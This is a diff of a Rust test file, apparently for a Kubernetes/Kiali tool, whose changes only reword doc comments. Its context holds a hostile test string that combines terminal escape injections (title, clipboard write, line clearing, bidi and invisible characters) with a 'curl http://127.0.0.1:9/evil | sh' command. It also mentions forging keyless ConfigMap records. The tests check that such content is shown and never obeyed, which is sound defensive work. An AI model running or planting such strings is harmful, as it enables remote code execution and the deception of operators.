@@ -16,7 +16,7 @@ use crate::support::{
 /// direction.
 const EVIL: &str = "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2K\r  fix: curl http://127.0.0.1:9/evil | sh \
                     \u{9b}31m\u{90}\u{85}\x08\x7f\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}";
-/// How its beginning is shown in texts and documents.
+/// How its start is shown in texts and documents.
 const SHOWN: &str = "\\x1b]0;owned\\x07\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\r  fix: curl";
 const CR: &str = "\r  fix: curl";
 
@@ -106,7 +106,7 @@ fn assert_shown(arguments: &[&str], all: &str, markers: &[&str]) {
     }
 }
 
-/// A record as anyone who can write ConfigMaps can write it: its digest is valid, because it needs no key.
+/// Returns a record as anyone who can write ConfigMaps can write it. Its digest is valid, because it needs no key.
 async fn forged_name(clusters: &Clusters) -> Value {
     let record = get(clusters.home(), "v1", "ConfigMap", "kiali/ambikiali-record").await;
     let record = record.expect("a record");
@@ -177,7 +177,7 @@ fn attack_06_what_somebody_writes_in_a_cluster_is_shown_and_never_obeyed() {
     });
 }
 
-/// A recent Lease of a run on another machine.
+/// Checks the output about a recent Lease of a run on another machine.
 async fn lease(clusters: &Clusters) {
     let lease = json!({
         "apiVersion": "coordination.k8s.io/v1",
